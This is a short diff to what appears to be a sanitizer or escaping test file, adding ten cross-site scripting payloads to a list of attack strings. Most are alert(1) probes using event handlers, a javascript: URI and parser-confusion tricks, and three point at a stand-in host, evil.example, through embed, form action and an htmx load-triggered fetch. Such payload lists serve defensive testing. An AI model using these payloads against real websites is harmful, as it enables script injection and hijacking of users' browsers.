@@ -233,6 +233,16 @@ ATTACKS = (
     "{{7*7}}{% raw %}${7*7}",
     "' onmouseover=alert(1) x='",
     "&lt;b&gt;&amp;\u2028alert(1)\u2029",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data='javascript:alert(1)'>",
+    "<embed src=https://evil.example/e>",
+    "<form action=https://evil.example/><button>x",
+    "<template><script>alert(1)</script></template>",
+    "<math><mtext><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<div hx-get='https://evil.example/h' hx-trigger='load'>",
+    "<input autofocus onfocus=alert(1)>",
 )
 PAYLOADS = [escape + attack for escape, attack in product(ESCAPES, ATTACKS)]
 
